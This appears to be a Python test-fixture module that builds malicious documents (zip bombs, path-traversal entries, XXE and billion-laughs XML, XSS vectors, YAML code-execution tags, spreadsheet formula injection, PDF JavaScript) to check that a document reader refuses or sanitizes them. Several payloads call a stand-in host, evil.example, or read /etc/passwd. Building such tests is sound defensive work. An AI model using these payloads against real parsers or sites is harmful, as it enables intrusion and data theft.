"""Files that mean harm, each made here by a few lines: name → the bytes, and the refusal they should meet.

A refusal of None: the file is read, and what is dangerous in it is gone. SECRET
stands wherever a word must not reach anybody: behind a link to another place,
in a script, in a part nobody reads.
"""

# A case is made when it is asked for, so every maker is a lambda; the noise only must be the same each time.
# ruff: noqa: PLW0108, S311

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import PurePosixPath

from wordfiles import docx, paragraph, picture

SECRET = "zq-secret-zq"
EVIL = f"http://evil.example/{SECRET}"

LEAD = "SEATTLE, May 3, 2026 — The crews of the ferry voted today to keep the night boats running all winter."
WORDS = [paragraph("Ferry Crews Vote for Night Boats"), paragraph(LEAD)]
TEXT = f"Ferry Crews Vote for Night Boats\n\n{LEAD}\n\n"
PAGE = f"<h1>Ferry Crews Vote for Night Boats</h1><p>{LEAD}</p>"

Make = Callable[[], bytes]


def cases() -> dict[str, tuple[Make, str | None]]:
    """File name → how to make it, and the refusal expected ("*": any; None: it is read)."""
    return {
        **_zips(),
        **_word(),
        **_pictures(),
        **_pages(),
        **_markdown(),
        **_texts(),
        **_mails(),
        **_others(),
        **_broken_streams(),
    }


# ---- zip archives ------------------------------------------------------------------------------


def zip_of(parts: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, part in parts:
            archive.writestr(zipfile.ZipInfo(name), part, compression)
    return out.getvalue()


def _with(name: str, part: bytes | str) -> bytes:
    return docx(*WORDS, parts={name: part})


def _lying(data: bytes, part: bytes, size: int) -> bytes:
    """The size of a part changed in the directory and in the part's own header."""
    changed = bytearray(data)
    for signature, name_at, size_at in ((b"PK\x01\x02", 46, 24), (b"PK\x03\x04", 30, 22)):
        at = changed.find(signature)
        while at >= 0:
            if changed[at + name_at : at + name_at + len(part)] == part:
                changed[at + size_at : at + size_at + 4] = struct.pack("<I", size)
            at = changed.find(signature, at + 4)
    return bytes(changed)


def _flagged(data: bytes) -> bytes:
    """Every part marked as encrypted."""
    changed = bytearray(data)
    for signature, at_flag in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + at_flag] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


def _big(size: int) -> bytes:
    return docx(*WORDS, f"<!--{' ' * size}-->")


def _zips() -> dict[str, tuple[Make, str | None]]:
    zeros = b"\0" * (40 << 20)
    return {
        "bomb.docx": (lambda: _big(30 << 20), "bomb"),
        "bomb-of-zeros.docx": (lambda: _with("word/media/a.bin", zeros), "bomb"),
        "bomb-of-parts.docx": (
            lambda: docx(*WORDS, parts={f"x{i}.xml": "<a/>" for i in range(2500)}),
            "bomb",
        ),
        "bomb-in-a-bomb.docx": (
            lambda: _with("word/media/inner.zip", zip_of([("a", zeros)], zipfile.ZIP_DEFLATED)),
            None,
        ),
        "lying-small.docx": (lambda: _lying(_big(30 << 20), b"word/document.xml", 400), "*"),
        "lying-huge.docx": (lambda: _lying(docx(*WORDS), b"word/document.xml", 0x7FFFFFFF), "bomb"),
        "two-of-a-name.docx": (_twice, "unsafe"),
        "dot-dot.docx": (lambda: _with("../../etc/cron.d/x.xml", "<a/>"), "unsafe"),
        "absolute.docx": (lambda: _with("/etc/cron.d/x.xml", "<a/>"), "unsafe"),
        "backslash.docx": (lambda: _with("..\\..\\x.xml", "<a/>"), "unsafe"),
        "drive.docx": (lambda: _with("C:/x.xml", "<a/>"), "unsafe"),
        "password.docx": (lambda: _flagged(docx(*WORDS)), "encrypted"),
        "truncated.docx": (lambda: docx(*WORDS)[:-300], "not-what-it-says"),
        "half.docx": (lambda: docx(*WORDS)[: len(docx(*WORDS)) // 2], "not-what-it-says"),
        "no-document.docx": (lambda: zip_of([("a.txt", b"x")]), "*"),
        "text.docx": (lambda: TEXT.encode(), "not-what-it-says"),
        "old-word.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "encrypted"),
        "macro.docx": (lambda: _with("word/vbaProject.bin", b"\xd0\xcf"), "macros"),
        "stored-trash.docx": (lambda: b"PK\x03\x04" + random.Random(3).randbytes(5000), "not-what-it-says"),
    }


def _twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out = io.BytesIO(docx(*WORDS))
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("word/document.xml", "<x/>")
        return out.getvalue()


# ---- Word --------------------------------------------------------------------------------------

_XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "{EVIL}">]>'
_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a '"
    + "ha" * 50
    + "'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


# Parts of a Word file that its readers open one by one, and ways in which one of them is no XML.
_PARTS = ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/styles.xml",
          "word/numbering.xml", "word/footnotes.xml", "word/comments.xml", "word/document.xml")  # fmt: skip
_BROKEN = ("<a>\x01</a>", "<a><b></a>", "<a>&#1;</a>", "", "<a>&nbsp;</a>")


def _word() -> dict[str, tuple[Make, str | None]]:
    nested = 5_000
    table = "<w:tbl><w:tr><w:tc>" * nested + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * nested
    controls = "<w:sdt><w:sdtContent>" * nested + paragraph("deep") + "</w:sdtContent></w:sdt>" * nested
    link = f'<w:p><w:hyperlink r:id="r5"><w:r><w:t>{"Register"}</w:t></w:r></w:hyperlink></w:p>'
    field = '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;javascript:alert(1)&quot; "><w:r><w:t>go</w:t></w:r></w:fldSimple></w:p>'
    utf16 = docx(*WORDS, head=_XXE)
    return {
        "xxe.docx": (lambda: docx(*WORDS, paragraph("&e;"), head=_XXE), "unsafe"),
        "laughs.docx": (lambda: docx(*WORDS, paragraph("&i;"), head=_LAUGHS), "unsafe"),
        "quadratic.docx": (
            lambda: docx(paragraph("&q;" * 2000), head=f"<!DOCTYPE x [<!ENTITY q '{'q' * 50_000}'>]>"),
            "unsafe",
        ),
        "doctype-in-relations.docx": (lambda: _with("word/_rels/document.xml.rels", _XXE + "<x/>"), "unsafe"),
        "doctype-in-comments.docx": (lambda: _with("word/comments.xml", _XXE + "<x/>"), "unsafe"),
        "doctype-in-utf16.docx": (lambda: _utf16(utf16), "*"),
        "not-xml.docx": (lambda: _with("word/document.xml", "<<<>>>&&&"), "*"),
        **{
            f"broken-{PurePosixPath(part).stem}-{number}.docx": (
                lambda part=part, broken=broken: _with(part, broken),
                "*?",
            )
            for part in _PARTS
            for number, broken in enumerate(_BROKEN)
        },
        "nul.docx": (lambda: _with("word/document.xml", "<a>\0</a>"), "*"),
        "bad-utf8.docx": (lambda: _with("word/document.xml", b"<a>\xff\xfe\xc3</a>"), "*"),
        "other-root.docx": (lambda: _with("word/document.xml", "<html><script/></html>"), "*"),
        "200000-paragraphs.docx": (lambda: docx(*[paragraph("a")] * 200_000), "*"),
        "5000-tables-deep.docx": (lambda: docx(*WORDS, table), "*"),
        "5000-controls-deep.docx": (lambda: docx(*WORDS, controls), "*"),
        "long-attribute.docx": (lambda: docx(*WORDS, f'<w:p w:rsidR="{"A" * (11 << 20)}"/>'), "*"),
        "1-mb-word.docx": (lambda: docx(*WORDS, paragraph("w" * (1 << 20))), "*?"),
        "external-picture.docx": (
            lambda: docx(*WORDS, picture("r7", link=True), relations={"r7": ("image", EVIL, True)}),
            None,
        ),
        "picture-of-a-file.docx": (
            lambda: docx(*WORDS, picture("r7"), relations={"r7": ("image", "../../../etc/passwd", False)}),
            None,
        ),
        "template-elsewhere.docx": (
            lambda: docx(*WORDS, relations={"r9": ("attachedTemplate", EVIL, True)}),
            None,
        ),
        "javascript-link.docx": (
            lambda: docx(*WORDS, link, relations={"r5": ("hyperlink", "javascript:alert(1)", True)}),
            None,
        ),
        "data-link.docx": (
            lambda: docx(
                *WORDS, link, relations={"r5": ("hyperlink", "data:text/html,&lt;script&gt;", True)}
            ),
            None,
        ),
        "file-link.docx": (
            lambda: docx(*WORDS, link, relations={"r5": ("hyperlink", "file:///etc/passwd", True)}),
            None,
        ),
        "field-link.docx": (lambda: docx(*WORDS, field), None),
        "markup-in-words.docx": (
            lambda: docx(
                *WORDS, paragraph("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;")
            ),
            None,
        ),
        "hidden-words.docx": (lambda: docx(*WORDS, paragraph(SECRET, "<w:vanish/>")), None),
        "deleted-words.docx": (
            lambda: docx(*WORDS, f"<w:p><w:del><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>"),
            None,
        ),
    }


def _utf16(data: bytes) -> bytes:
    parts = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            if name == "word/document.xml":
                part = (
                    part.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
                )
            parts.append((name, part))
    return zip_of(parts)


# ---- pictures ----------------------------------------------------------------------------------


def chunk_of(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, extra: bytes = b"") -> bytes:
    """A grey PNG that says it is so large, and holds one bit a pixel of nothing."""
    packer = zlib.compressobj(9)
    row = b"\0" + bytes((width + 7) // 8)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk_of(b"IHDR", head)
        + extra
        + chunk_of(b"IDAT", packed)
        + chunk_of(b"IEND", b"")
    )


def jpeg_with_place() -> bytes:
    """A photograph that tells where it was taken, by whom, and carries a file behind it."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x013B] = SECRET  # Artist
    exif.get_ifd(0x8825).update({1: "N", 2: (47.0, 36.0, 22.0), 3: "W", 4: (122.0, 20.0, 1.0)})
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "navy").save(out, "JPEG", exif=exif)
    return out.getvalue() + zip_of([("x.txt", SECRET.encode())])


def _shown(data: bytes, name: str = "image1.png") -> bytes:
    return docx(
        *WORDS,
        picture("r7", "The ferry"),
        parts={f"word/media/{name}": data},
        relations={"r7": ("image", f"media/{name}", False)},
    )


def _pictures() -> dict[str, tuple[Make, str | None]]:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{EVIL}"/></svg>'.encode()
    text = chunk_of(b"tEXt", b"Comment\0" + SECRET.encode())
    return {
        "20000-squared.docx": (lambda: _shown(png(20_000, 20_000)), None),
        "65000-by-1.docx": (lambda: _shown(png(65_000, 1)), None),
        "said-huge.docx": (lambda: _shown(_said_huge()), None),
        "photo-with-place.docx": (lambda: _shown(jpeg_with_place(), "image1.jpeg"), None),
        "comment-in-png.docx": (lambda: _shown(png(20, 20, extra=text)), None),
        "cut-picture.docx": (lambda: _shown(png(50, 50)[:60]), None),
        "page-as-picture.docx": (lambda: _shown(b"<html><script>alert(1)</script>"), None),
        "svg.docx": (lambda: _shown(svg), None),
        "svg-by-name.docx": (lambda: _shown(svg, "image1.svg"), None),
        "archive-behind-png.docx": (lambda: _shown(png(20, 20) + zip_of([("a", SECRET.encode())])), None),
        "no-picture.docx": (lambda: _shown(b""), None),
        "picture.docx.png": (lambda: png(20, 20), "unknown-format"),
    }


def _said_huge() -> bytes:
    data = bytearray(png(8, 8))
    data[16:24] = struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


# ---- pages and Markdown ------------------------------------------------------------------------

ATTACKS = {
    "script": f"<script>{SECRET}</script><SCRIPT SRC={EVIL}></SCRIPT>",
    "events": f"<p onclick='{SECRET}' onmouseover=x>words</p><img src=x onerror={SECRET}>",
    "javascript": f"<a href='javascript:{SECRET}'>go</a><a href=' JaVa&#115;cript:{SECRET}'>go</a>",
    "tab-in-scheme": f"<a href='java\tscript:{SECRET}'>go</a><a href='java&Tab;script&colon;{SECRET}'>go</a>",
    "control-in-scheme": f"<a href='\x01javascript:{SECRET}'>go</a>",
    "vbscript": f"<a href='vbscript:{SECRET}'>go</a>",
    "data": f"<a href='data:text/html;base64,{SECRET}'>go</a><img src='data:image/svg+xml,{SECRET}'>",
    "frames": f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    "forms": f"<form action='{EVIL}'><input value='{SECRET}'><button formaction='javascript:{SECRET}'>x</button></form>",
    "svg": f"<svg onload={SECRET}><script>{SECRET}</script><a xlink:href='javascript:{SECRET}'>x</a></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={SECRET}></style></mglyph></table></mtext></math>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={SECRET}>'></noscript>",
    "template": f"<template><script>{SECRET}</script></template>",
    "comment": f"<!--><script>{SECRET}</script>--><!--[if IE]><script>{SECRET}</script><![endif]-->",
    "cdata": f"<?php echo '{SECRET}' ?>",
    "style": f"<style>@import '{EVIL}';p{{background:url({EVIL})}}</style><p style='background:url({EVIL})'>words</p>",
    "pictures-elsewhere": f"<img src='{EVIL}'><img src='//evil.example/{SECRET}'><img src='file:///{SECRET}'>",
    "tracking": f"<img src='{EVIL}' width=1 height=1><link rel=stylesheet href='{EVIL}'><video poster='{EVIL}'></video>",
    "hidden": f"<p style='display:none'>{SECRET}</p><p hidden>{SECRET}</p><p style='font-size:0'>{SECRET}</p>",
    "unclosed": f"<a href='http://a.example/x<script>{SECRET}</script>",
    "nul": f"<scr\0ipt>{SECRET}</scr\0ipt>",
}  # fmt: skip


def _pages() -> dict[str, tuple[Make, str | None]]:
    def page(attack: str) -> Make:
        return lambda: (PAGE + attack).encode()

    attacks = {f"{name}.html": (page(attack), None) for name, attack in ATTACKS.items()}
    return {
        **attacks,
        "5000-deep.html": (lambda: (PAGE + "<div>" * 5000 + "deep" + "</div>" * 5000).encode(), "*?"),
        "5000-lists.html": (lambda: (PAGE + "<ul><li>" * 5000).encode(), "*?"),
        "200000-paragraphs.html": (lambda: (PAGE + "<p>a" * 200_000).encode(), "*?"),
        "100000-unclosed.html": (lambda: (PAGE + "<b><i><a href=x>" * 30_000).encode(), "*?"),
        "colspan.html": (lambda: (PAGE + "<table><tr><td colspan=100000 rowspan=100000>x</table>").encode(), None),
        "10000-columns.html": (lambda: (PAGE + "<table><tr>" + "<td>x" * 10_000 + "</table>").encode(), "*?"),
        "1-mb-word.html": (lambda: (PAGE + "<p>" + "w" * (1 << 20)).encode(), "*?"),
        "entities.html": (lambda: (_LAUGHS + PAGE + "<p>&i;&e;</p>").encode(), None),
        "xxe.html": (lambda: (_XXE + PAGE + "<p>&e;&f;</p>").encode(), None),
        **{
            f"reference-{name}.html": (lambda text=text: text.encode(), "*?")
            for name, text in {"alone": "&#1", "with-words": PAGE + "<p>a&#1;b&#x0B;c&#31;", "half": PAGE + "&#xD800;",
                               "none": PAGE + "<p title='&#xFFFE;'>&#xFFFF;&#0;", "link": PAGE + "<a href='&#1;x'>y</a>"}.items()
        },
        "double-utf7.html": (lambda: b"<meta charset=utf-7>+ADw-script+AD4-" + PAGE.encode(), None),
        "expression.html": (lambda: (PAGE + "<p>{{7*7}} ${7*7} #{7*7} {% raw %}</p>").encode(), None),
    }  # fmt: skip


def _markdown() -> dict[str, tuple[Make, str | None]]:
    def told(text: str) -> Make:
        return lambda: (f"# Ferry Crews Vote\n\n{LEAD}\n\n{text}\n").encode()

    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)
    )
    return {
        "brackets.md": (told("[" * 50_000), "*?"),
        "bangs.md": (told("![" * 20_000), "*?"),
        "angles.md": (told("<a " * 50_000), "*?"),
        "half-links.md": (told("[a](<b" * 10_000), "*?"),
        "autolinks.md": (told("<http://a" * 10_000), "*?"),
        "definitions.md": (told("[a]: <b\n" * 10_000), "*?"),
        "backticks.md": (told("".join("e" + "`" * n for n in range(1, 600))), "*?"),
        "lists.md": (told("\n".join(" " * n + "- a" for n in range(600))), "*?"),
        "quotes.md": (told(">" * 20_000 + "a"), "*?"),
        "stars.md": (told("*a **a " * 20_000), "*?"),
        "javascript.md": (told("[go](javascript:alert(1)) <javascript:alert(1)>"), None),
        "data.md": (told("[go](data:text/html,alert) ![x](data:image/svg+xml,x)"), None),
        "html.md": (told(ATTACKS["script"] + ATTACKS["events"]), None),
        "reference.md": (told("[go][1]\n\n[1]: vbscript:alert(1)"), None),
        "picture-elsewhere.md": (told(f"![the ferry]({EVIL})"), None),
        "yaml-bomb.md": (lambda: f"---\n{bomb}---\n{TEXT}".encode(), "*?"),
        "yaml-object.md": (
            lambda: f"---\nheadline: !!python/object/apply:os.system ['echo']\n---\n{TEXT}".encode(),
            None,
        ),
        "yaml-deep.md": (lambda: f"---\na: {'[' * 5000}\n---\n{TEXT}".encode(), "*?"),
        "front-of-100000.md": (
            lambda: ("---\n" + "".join(f"k{i}: v\n" for i in range(20_000)) + f"---\n{TEXT}").encode(),
            "*?",
        ),
    }  # fmt: skip


# ---- text, mail and the rest -------------------------------------------------------------------


def _texts() -> dict[str, tuple[Make, str | None]]:
    noise = random.Random(7)
    return {
        "nul.txt": (lambda: TEXT.encode() + b"\0\0words\0", "*?"),
        "mojibake.txt": (lambda: (TEXT + "The crewsâ€™ vote wasnâ€™t close, they say itâ€™s fine.").encode(), None),
        "noise.txt": (lambda: noise.randbytes(20_000), "*?"),
        "utf16.txt": (lambda: TEXT.encode("utf-16"), "*?"),
        "utf32.txt": (lambda: TEXT.encode("utf-32"), "*?"),
        "surrogates.txt": (lambda: TEXT.encode() + b"\xed\xa0\x80\xed\xb0\x80", "*?"),
        "overrides.txt": (lambda: (TEXT + "invoice\u202egnp.exe \u2066x\u2069 \u200b\ufeff").encode(), None),
        "controls.txt": (lambda: (TEXT + "".join(map(chr, range(1, 32))) + "\x7f\x9b31m").encode(), "*?"),
        "private-use.txt": (lambda: (TEXT + "\uf0b7 one\n\uf0b7 two \ue000\U000f0000").encode(), None),
        "zalgo.txt": (lambda: (TEXT + "o" + "\u0301" * 5_000).encode(), "*?"),
        "one-line.txt": (lambda: ("word " * 200_000).encode(), "*?"),
        "one-word.txt": (lambda: (TEXT + "w" * (1 << 20)).encode(), "*?"),
        "many-lines.txt": (lambda: ("a\n" * 200_000).encode(), "*?"),
        "many-quotes.txt": (lambda: (TEXT + '"“«' * 30_000).encode(), "*?"),
        "many-ats.txt": (lambda: (TEXT + "a@" * 50_000 + "\n\n" + "@" * 50_000).encode(), "*?"),
        "many-digits.txt": (lambda: (TEXT + "206 555 01" * 20_000).encode(), "*?"),
        "many-dates.txt": (lambda: (TEXT + "May 3, 2026 " * 20_000).encode(), "*?"),
        "many-names.txt": (lambda: (TEXT + "Ana Ruiz " * 30_000).encode(), "*?"),
        "formula.txt": (lambda: (TEXT + "=cmd|' /C calc'!A0\n\n{{7*7}} <script>").encode(), None),
        "header.txt": (lambda: f"Vote\r\nBcc: all@evil.example\r\n\r\n{TEXT}".encode(), None),
        "empty.txt": (lambda: b"", "empty-file"),
        "blank.txt": (lambda: b"\xef\xbb\xbf \r\n\t\0", "empty-file"),
        "11-mb.txt": (lambda: b"a" * (11 << 20), "too-large-text"),
        "program.txt": (lambda: b"\x7fELF" + bytes(500), "binary-file"),
        "picture.txt": (lambda: png(4, 4), "binary-file"),
        "archive.txt": (lambda: zip_of([("a", b"b")]), "binary-file"),
    }  # fmt: skip


def _mails() -> dict[str, tuple[Make, str | None]]:
    def mail(**parts: str) -> EmailMessage:
        message = EmailMessage()
        message["Subject"] = parts.get("subject", "Ferry Crews Vote for Night Boats")
        message["From"] = "Ana Ruiz <ana@ferry.example>"
        message.set_content(parts.get("text", TEXT))
        return message

    def attached(data: bytes, name: str) -> bytes:
        message = mail()
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
        return message.as_bytes()

    def page() -> bytes:
        message = mail()
        message.add_alternative(PAGE + ATTACKS["script"] + ATTACKS["pictures-elsewhere"], subtype="html")
        return message.as_bytes()

    def nested() -> bytes:
        inner = "".join(
            f'--b{n}\nContent-Type: multipart/mixed; boundary="b{n + 1}"\n\n' for n in range(1000)
        )
        return f'Subject: x\nContent-Type: multipart/mixed; boundary="b0"\n\n{inner}'.encode()

    return {
        "page.eml": (page, None),
        "nested.eml": (nested, "*?"),
        "many-parts.eml": (
            lambda: b'Subject: x\nContent-Type: multipart/mixed; boundary="b"\n\n' + b"--b\n\nx\n" * 5000,
            "*",
        ),
        "bomb-attached.eml": (lambda: attached(_big(30 << 20), "release.docx"), "bomb"),
        "xxe-attached.eml": (lambda: attached(docx(*WORDS, head=_XXE), "release.docx"), "unsafe"),
        "program-attached.eml": (lambda: attached(b"MZ" + SECRET.encode(), "release.exe"), None),
        "bad-charset.eml": (
            lambda: (
                b"Subject: x\nContent-Type: text/plain; charset=no-such\n\n" + TEXT.encode() + b"\xff\xfe"
            ),
            "*?",
        ),
        "bad-headers.eml": (
            lambda: b"Subject: =?utf-8?B?////?= =?x?Q?" + b"=" * 5000 + b"\nFrom: <<<>>>\n\n" + TEXT.encode(),
            "*?",
        ),
        "many-headers.eml": (lambda: b"X-A: b\n" * 50_000 + b"\n" + TEXT.encode(), "*?"),
        "no-mail.eml": (lambda: TEXT.encode(), "*?"),
    }


_ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:'
    'opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)


def odt_of(inside: str, head: str = "") -> bytes:
    body = f"<text:h>Ferry Crews Vote</text:h><text:p>{LEAD}</text:p>{inside}"
    content = (
        f'<?xml version="1.0"?>{head}<office:document-content {_ODT}><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.text"
    return zip_of([("mimetype", kind), ("content.xml", content.encode())])


def _others() -> dict[str, tuple[Make, str | None]]:
    def rtf(inside: str) -> Make:
        return lambda: ("{\\rtf1\\ansi " + LEAD + "\\par " + inside + "}").encode()

    def pdf(objects: str) -> Make:
        return lambda: f"%PDF-1.7\n{objects}\ntrailer<</Root 1 0 R>>\n%%EOF".encode()

    deep = "<text:list><text:list-item>" * 3000 + "</text:list-item></text:list>" * 3000
    loop = (
        "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9999999>>endobj"
    )
    action = loop + "\n3 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"
    return {
        "xxe.odt": (lambda: odt_of("<text:p>&e;</text:p>", _XXE), "unsafe"),
        "laughs.odt": (lambda: odt_of("<text:p>&i;</text:p>", _LAUGHS), "unsafe"),
        "deep.odt": (lambda: odt_of(deep), "*?"),
        "billion-spaces.odt": (lambda: odt_of('<text:p>a<text:s text:c="1000000000"/>b</text:p>'), "*?"),
        "million-columns.odt": (
            lambda: odt_of(
                '<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
                'table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
            ),
            "*?",
        ),
        "javascript.odt": (lambda: odt_of(f'<text:p><text:a xlink:href="javascript:{SECRET}">go</text:a></text:p>'), None),
        "picture-elsewhere.odt": (
            lambda: odt_of(f'<text:p><draw:frame><draw:image xlink:href="{EVIL}"/></draw:frame></text:p>'),
            None,
        ),
        "macro.odt": (lambda: zip_of([("content.xml", b"<a/>"), ("Basic/Standard/M.xml", b"<a/>")]), "macros"),
        "deep.rtf": (rtf("{" * 50_000 + "}" * 50_000), "*?"),
        "open.rtf": (rtf("{" * 20_000), "*?"),
        "binary.rtf": (rtf("\\bin999999999 x"), "*?"),
        "numbers.rtf": (rtf("\\u-99999999999? \\u1114112? \\'zz \\uc99999"), "*?"),
        "object.rtf": (rtf("{\\object\\objdata d0cf11e0a1b11ae1" + "00" * 50_000 + "}"), "*?"),
        "hidden.rtf": (rtf("{\\v " + SECRET + "}{\\deleted " + SECRET + "}"), None),
        "link.rtf": (rtf('{\\field{\\*\\fldinst HYPERLINK "javascript:' + SECRET + '"}{\\fldrslt go}}'), None),
        "text.rtf": (lambda: TEXT.encode(), "not-what-it-says"),
        "loop.pdf": (pdf(loop), "*?"),
        "action.pdf": (pdf(action), "*?"),
        "empty.pdf": (lambda: b"%PDF-1.7\n", "*?"),
        "noise.pdf": (lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(30_000), "*?"),
        "page.pdf": (lambda: PAGE.encode(), "not-what-it-says"),
        "macro.docm": (lambda: docx(*WORDS), "macros"),
        "old.doc": (lambda: b"\xd0\xcf\x11\xe0", "old-word"),
        "all.zip": (lambda: zip_of([("a", b"b")]), "zip"),
        "drawing.svg": (lambda: b"<svg onload=alert(1)/>", "kind-picture"),
        "no-extension": (lambda: TEXT.encode(), "kind-none"),
        "program.exe": (lambda: b"MZ" + bytes(100), "unknown-format"),
        "release.html.exe": (lambda: PAGE.encode(), "unknown-format"),
    }  # fmt: skip


def _broken_streams() -> dict[str, tuple[Make, str | None]]:
    """A part whose compressed bytes are none: the directory is sound, and unpacking fails midway."""

    def broken(data: bytes, name: bytes, at: int) -> bytes:
        start = data.index(name) + len(name) + at
        return data[:start] + b"\xff" * 8 + data[start + 8 :]

    return {
        "stream.docx": (lambda: broken(docx(*WORDS), b"word/document.xml", 30), "not-what-it-says"),
        "stream-begin.docx": (lambda: broken(docx(*WORDS), b"word/document.xml", 0), "not-what-it-says"),
        "stream-rels.docx": (lambda: broken(docx(*WORDS), b"_rels/.rels", 10), "not-what-it-says"),
        "stream.odt": (lambda: broken(odt_of(""), b"content.xml", 30), "not-what-it-says"),
    }


def names() -> Iterator[str]:
    yield from cases()
